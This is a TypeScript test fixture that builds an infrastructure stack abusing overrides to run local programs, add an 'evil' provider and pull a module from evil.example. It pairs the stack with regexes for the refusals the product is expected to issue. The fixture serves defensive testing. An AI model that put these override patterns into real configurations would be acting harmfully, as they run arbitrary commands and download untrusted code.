/** A stack that would start programs, and download a provider and a module. @param trace What they leave begins with it */
export function programsStack(trace: string): string {
  return `const { defineStack, DataResource } = require("@infra/core");
const { z } = require("zod");
module.exports = defineStack({
  config: z.strictObject({ cidr: z.string() }),
  build(stack) {
    const data = new DataResource(stack, "data", {});
    data.addOverride("provisioner", [{ "local-exec": { command: "touch ${trace}-program-1" } }]);
    stack.addOverride("data.external.run", { program: ["touch", "${trace}-program-2"] });
    stack.addOverride("terraform.required_providers.evil", { source: "registry.opentofu.org/evil/evil" });
    stack.addOverride("module.m", { source: "git::https://evil.example/m.git" });
    return {};
  },
});
`;
}

/** What is said of each of them. */
export const refusals = [
  /terraform_data\.data has a provisioner \(local-exec\)/,
  /data\.external\.run needs the provider registry\.opentofu\.org\/hashicorp\/external/,
  /registry\.opentofu\.org\/evil\/evil, which this product does not allow/,
  /module\.m is a module of Terraform, from git::https:/,
] as const;
